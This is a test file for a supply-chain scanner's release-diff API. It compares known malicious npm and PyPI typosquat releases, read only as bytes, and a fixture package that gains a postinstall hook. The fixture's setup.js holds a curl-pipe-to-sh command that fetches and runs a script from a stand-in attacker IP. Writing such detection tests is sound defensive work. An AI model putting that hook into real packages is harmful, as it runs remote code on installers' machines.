// Release diffs end to end on real release pairs from the corpus (read as bytes, never run) and a tiny package built in memory that gains an install script.
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DiffResult, DiffSummary, ReleaseDiff } from '../../core/contracts/pkgscan-diffs.js';
import type { PageOf, Role, SecurityEvent } from '../../core/contracts/pkgscan.js';
import { corpusPath, hasCorpora } from '../../../test/corpora.js';
import { scanDeps } from '../scans/deps.js';
import { importArchive } from '../sources/store.js';
import { tgz } from '../sources/archives.fixture.js';
import { call, sessionsByRole, startServer, type Session, type TestServer } from '../server.fixture.js';
import { diffReleases } from './diff.js';
import { diffText } from './text.js';

const json = async <T>(r: Response): Promise<T> => (await r.json()) as T;


describe.skipIf(!hasCorpora())('release diffs', () => {
  let s: TestServer;
  let by: Record<Role, Session>;
  let api: string;

  const load = (file: string): void => {
    importArchive(s.platform.db, s.platform.dataDir, readFileSync(corpusPath('packages', file)), { filename: file.split('/').pop() ?? file, source: 'import', actor: 'system' });
  };
  const post = (body: unknown, who: Session = by.developer): Promise<Response> =>
    fetch(`${api}/diffs`, { method: 'POST', headers: { authorization: `Bearer ${who.token}`, 'content-type': 'application/json' }, body: JSON.stringify(body) });
  const get = (path: string, who: Session = by.read_only): Promise<Response> => fetch(`${api}${path}`, { headers: { authorization: `Bearer ${who.token}` } });

  beforeAll(async () => {
    s = await startServer();
    by = await sessionsByRole(s);
    for (const f of ['an0n-chat-lib-0.1.0', 'an0n-chat-lib-0.1.5', 'electorn-1.0.1', 'electorn-10.0.0', 'lodashs-1.0.1', 'lodashs-1.0.2']) load(`malicious/npm/${f}.tgz`);
    for (const f of ['djanga-0.1', 'djanga-0.3']) load(`malicious/pypi/${f}.tar.gz`);
    // A benign package whose second release gains an install script, a new file that runs at install and a new maintainer.
    const v1 = await tgz({ 'package/package.json': JSON.stringify({ name: 'tiny-gains-hook', version: '1.0.0', main: 'index.js', maintainers: [{ name: 'alice', email: 'alice@example.org' }] }), 'package/index.js': 'module.exports = 1;\n' });
    const v2 = await tgz({
      'package/package.json': JSON.stringify({ name: 'tiny-gains-hook', version: '1.1.0', main: 'index.js', scripts: { postinstall: 'node scripts/setup.js' }, maintainers: [{ name: 'alice', email: 'alice@example.org' }, { name: 'mallory', email: 'mallory@example.net' }] }),
      'package/index.js': 'module.exports = 2;\n',
      'package/scripts/setup.js': "const cp = require('child_process');\ncp.execSync('curl -s http://203.0.113.7/p.sh | sh');\n",
    });
    for (const [b, f] of [[v1, 'tiny-gains-hook-1.0.0.tgz'], [v2, 'tiny-gains-hook-1.1.0.tgz']] as const) importArchive(s.platform.db, s.platform.dataDir, b, { filename: f, source: 'import', actor: 'system' });
    api = s.api;
  }, 120_000);
  afterAll(async () => {
    await s.close();
  });

  it('a benign package that gains an install script: install-time files, capabilities, new maintainer, drift and maintainer events, audit', async () => {
    const r = await post({ name: 'tiny-gains-hook', from_version: '1.0.0', to_version: '1.1.0' });
    expect(r.status).toBe(201);
    const d = await json<DiffResult>(r);
    expect(d).toMatchObject({ ecosystem: 'npm', name: 'tiny-gains-hook', from_version: '1.0.0', to_version: '1.1.0', repeated: false, escalated: true });
    expect(d.to.install_scripts).toEqual({ postinstall: 'node scripts/setup.js' });
    expect(d.files.added.map((f) => f.path)).toEqual(['scripts/setup.js']);
    expect(d.files.changed.map((f) => f.path).sort()).toEqual(['index.js', 'package.json']);
    expect(d.files.install_time).toMatchObject({ from: [], to: ['scripts/setup.js'], added: ['scripts/setup.js'] });
    expect(d.capabilities.gained).toContain('install_time');
    expect(d.findings.new.length).toBeGreaterThan(0);
    expect(d.findings.new.some((f) => f.severity === 'high' || f.severity === 'critical')).toBe(true);
    expect(d.risk.to).toBeGreaterThan(d.risk.from);
    expect(d.maintainers.added).toEqual(['mallory <mallory@example.net>']);
    expect(d.maintainers.removed).toEqual([]);
    const events = await json<PageOf<SecurityEvent>>(await call(s, 'GET', '/events?limit=100', { token: by.admin.token }));
    const mine = events.items.filter((e) => e.details['diff_id'] === d.id).map((e) => e.type).sort();
    expect(mine).toEqual(['behavior_drift_detected', 'maintainer_changed']);
    const audit = await json<PageOf<{ details: Record<string, unknown> }>>(await call(s, 'GET', '/audit?action=diff.create', { token: by.admin.token }));
    expect(audit.items.some((e) => e.details['diff_id'] === d.id)).toBe(true);

    // The repeat returns the stored diff: same id, 200, no new events.
    const again = await post({ name: 'tiny-gains-hook', from_version: '1.0.0', to_version: '1.1.0', ecosystem: 'npm' });
    expect(again.status).toBe(200);
    const d2 = await json<DiffResult>(again);
    expect(d2.id).toBe(d.id);
    expect(d2.repeated).toBe(true);
    const after = await json<PageOf<SecurityEvent>>(await call(s, 'GET', '/events?limit=100', { token: by.admin.token }));
    expect(after.items.filter((e) => e.details['diff_id'] === d.id)).toHaveLength(2);
  }, 120_000);

  it('refuses a reversed pair (from newer than to): a downgrade is not drift, nothing is stored or published', async () => {
    const before = await json<PageOf<DiffSummary>>(await get('/diffs?package=tiny-gains-hook'));
    const res = await post({ name: 'tiny-gains-hook', from_version: '1.1.0', to_version: '1.0.0' });
    expect(res.status).toBe(422);
    const body = (await res.json()) as { error: { code: string; details?: { path: string }[] } };
    expect(body.error).toMatchObject({ code: 'validation_failed', details: [{ path: 'from_version' }] });
    expect((await json<PageOf<DiffSummary>>(await get('/diffs?package=tiny-gains-hook'))).total).toBe(before.total);
  }, 120_000);

  it('real npm release pairs: an0n-chat-lib 0.1.0 -> 0.1.5, electorn 1.0.1 -> 10.0.0, lodashs 1.0.1 -> 1.0.2', async () => {
    const results: Record<string, ReleaseDiff> = {};
    for (const [name, from, to] of [
      ['an0n-chat-lib', '0.1.0', '0.1.5'],
      ['electorn', '1.0.1', '10.0.0'],
      ['lodashs', '1.0.1', '1.0.2'],
    ] as const) {
      const r = await post({ name, from_version: from, to_version: to });
      expect(r.status).toBe(201);
      const d = await json<ReleaseDiff>(r);
      expect(d).toMatchObject({ name, from_version: from, to_version: to });
      expect(d.from.sha256).not.toBe(d.to.sha256);
      expect(d.files.added.length + d.files.removed.length + d.files.changed.length).toBeGreaterThan(0);
      // Every finding of the newer release is either new or an unchanged (code, file) pair.
      expect(d.findings.new.length).toBeLessThanOrEqual(d.to.findings_count);
      results[name] = d;
    }
    // an0n-chat-lib 0.1.5 gained a postinstall hook running a file the older release did not ship.
    const an0n = results['an0n-chat-lib'];
    expect(an0n?.to.install_scripts['postinstall']).toContain('build/postinstall.js');
    expect(an0n?.files.install_time.added).toEqual(['build/postinstall.js']);
    expect(an0n?.capabilities.gained).toContain('install_time');
    expect(an0n?.findings.new.map((f) => f.code)).toContain('npm_install_script');
    // Each pair's older release is already malicious: the diff reports what changed, whatever the verdict of each side.
    for (const d of Object.values(results)) expect(d.from.risk_score + d.to.risk_score).toBeGreaterThan(0);
    process.stdout.write(
      `diff measures: ${Object.values(results)
        .map((d) => `${d.name} ${d.from_version}->${d.to_version} risk ${d.risk.from}->${d.risk.to} new ${d.findings.new.length} gone ${d.findings.gone.length} escalated ${String(d.escalated)} gained [${d.capabilities.gained.join(',')}] files +${d.files.added.length}/-${d.files.removed.length}/~${d.files.changed.length} ${d.duration_ms}ms`)
        .join('; ')}\n`,
    );
  }, 240_000);

  it('a real PyPI pair (djanga 0.1 -> 0.3) names setup.py as an install-time file; called as a function', async () => {
    const d = await diffReleases(s.platform, scanDeps(s.platform), { ecosystem: 'pypi', name: 'Djanga', from_version: '0.1', to_version: '0.3' }, 'tester', 'req-00000001');
    expect(d).toMatchObject({ ecosystem: 'pypi', name: 'djanga', from_version: '0.1', to_version: '0.3' });
    expect(d.files.install_time.to.some((f) => f.endsWith('setup.py'))).toBe(true);
    expect(diffText(d)).toContain('pypi djanga 0.1 -> 0.3');
  }, 120_000);

  it('lists with filters and pagination, reads one, and refuses what it must', async () => {
    const all = await json<PageOf<DiffSummary>>(await get('/diffs?limit=2'));
    expect(all.items).toHaveLength(2);
    expect(all.total).toBeGreaterThanOrEqual(5);
    const tiny = await json<PageOf<DiffSummary>>(await get('/diffs?package=tiny-gains-hook'));
    expect(tiny.total).toBe(1);
    const drift = await json<PageOf<DiffSummary>>(await get('/diffs?drift_only=true'));
    expect(drift.items.every((x) => x.escalated)).toBe(true);
    expect(drift.items.some((x) => x.name === 'tiny-gains-hook' && x.from_version === '1.0.0')).toBe(true);
    expect(drift.total).toBeLessThan(all.total);
    const one = await json<ReleaseDiff>(await get(`/diffs/${tiny.items[0]?.id ?? ''}`));
    expect(one.name).toBe('tiny-gains-hook');
    expect(Array.isArray(one.findings.new)).toBe(true);
    expect((await get('/diffs/00000000-0000-0000-0000-000000000000')).status).toBe(404);
    expect((await get('/diffs/not-an-id')).status).toBe(404);
    expect((await get('/diffs?drift_only=maybe')).status).toBe(400);
    expect((await post({ name: 'tiny-gains-hook', from_version: '1.0.0', to_version: '1.1.0' }, by.read_only)).status).toBe(403);
    expect((await post({ name: 'tiny-gains-hook', from_version: '1.0.0', to_version: '1.1.0' }, by.auditor)).status).toBe(403);
    const missing = await post({ name: 'tiny-gains-hook', from_version: '1.0.0', to_version: '9.9.9' });
    expect(missing.status).toBe(404);
    expect(await missing.text()).not.toContain('9.9.9');
    const eco = await post({ ecosystem: 'rubygems', name: 'rails', from_version: '1', to_version: '2' });
    expect(eco.status).toBe(422);
    expect(await eco.text()).not.toContain('rubygems');
    expect((await post({ name: 'tiny-gains-hook', from_version: '1.0.0', to_version: '1.0.0' })).status).toBe(422);
    expect((await post({ name: 'tiny-gains-hook', from_version: '1.0.0' })).status).toBe(422);
    expect((await post({ name: 'tiny-gains-hook', from_version: '1.0.0', to_version: '1.1.0', extra: 1 })).status).toBe(422);
  }, 120_000);
});
